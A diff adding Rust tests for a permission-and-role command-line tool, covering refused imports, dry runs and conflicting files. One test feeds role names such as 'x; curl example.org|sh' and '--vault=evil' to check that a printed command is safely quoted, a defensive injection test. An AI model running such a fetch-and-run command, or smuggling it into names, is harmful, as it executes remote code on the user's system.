@@ -55,11 +55,49 @@ fn what_a_service_drops_is_shown_where_a_role_still_has_it() {
     let json = case.run(["role", "list", "--matrix", "--json"]).done().json();
     assert_eq!(json["matrix"]["rows"][0]["cells"], json!(["none", "by_pattern"]));
     let less = TOML.replace("[[permissions]]\npermission = \"backups.restore\"\n", "");
-    import(&less).done().says("gone: backups.restore").says("keywright role edit Restorer");
+    // A file that names another service by mistake would drop all that one declares: somebody has to want it.
+    import(&less).refused(2).says("backups would drop backups.restore (held by Restorer)").says("--yes");
+    case.run(["permission", "list"]).done().shows("backups.restore");
+    let preview = case.feed(less.as_bytes(), ["permission", "import", "-", "--dry-run"]).done();
+    preview.says("gone: backups.restore").says("keywright role edit Restorer").says("Nothing was changed.");
+    let import = |text: &str| case.feed(text.as_bytes(), ["permission", "import", "-", "--yes"]);
+    import(&less).done().says("gone: backups.restore").says("Restorer still has it");
+    // What is gone is no news the next time.
+    case.feed(less.as_bytes(), ["permission", "import", "-"]).done().says("1 as before");
     case.run(["permission", "list"]).done().shows("gone: its service dropped it");
     case.run(["role", "edit", "Restorer", "--permission", "mail.read"]).done();
     let list = case.run(["permission", "list"]).done().stdout;
     assert!(!list.contains("backups.restore"), "{list}");
+}
+
+#[test]
+fn what_is_printed_to_be_copied_is_one_command() {
+    let case = Case::new();
+    case.feed(TOML.as_bytes(), ["permission", "import", "-"]).done();
+    for name in ["x; curl example.org|sh", "it's", "--vault=evil"] {
+        case.run(["role", "add", "--permission", "backups.restore", "--", name]).done();
+        let less = TOML.replace("[[permissions]]\npermission = \"backups.restore\"\n", "");
+        let run = case.feed(less.as_bytes(), ["permission", "import", "-", "--yes"]).done();
+        let command = run.stderr.lines().find_map(|line| line.split_once("keywright ")).unwrap().1;
+        // The shell runs the program once, with the role's name as one word.
+        let script = format!("\"$0\" {command} --add-permission backups.read");
+        let mut shell = std::process::Command::new("sh");
+        shell.args(["-c", &script, crate::case::KEYWRIGHT]).env_clear().envs(case.environment());
+        let run = crate::case::Run::of(shell.output().unwrap()).done();
+        assert!(run.stderr.contains(&format!("Edited the role {name}: backups.read.")), "{command}: {run:?}");
+        case.run(["role", "remove", "--", name]).done();
+        case.feed(TOML.as_bytes(), ["permission", "import", "-"]).done();
+    }
+}
+
+#[test]
+fn two_files_of_one_service_do_not_drop_each_other() {
+    let case = Case::new();
+    fs::write(case.path("one.toml"), TOML).unwrap();
+    fs::write(case.path("two.toml"), TOML.replace("backups.restore", "backups.write")).unwrap();
+    let (one, two) = (case.text("one.toml"), case.text("two.toml"));
+    case.run(["permission", "import", &one, &two]).refused(2).says("Two of the files declare backups");
+    case.run(["permission", "list"]).done().says("keywright permission import");
 }
 
 #[test]
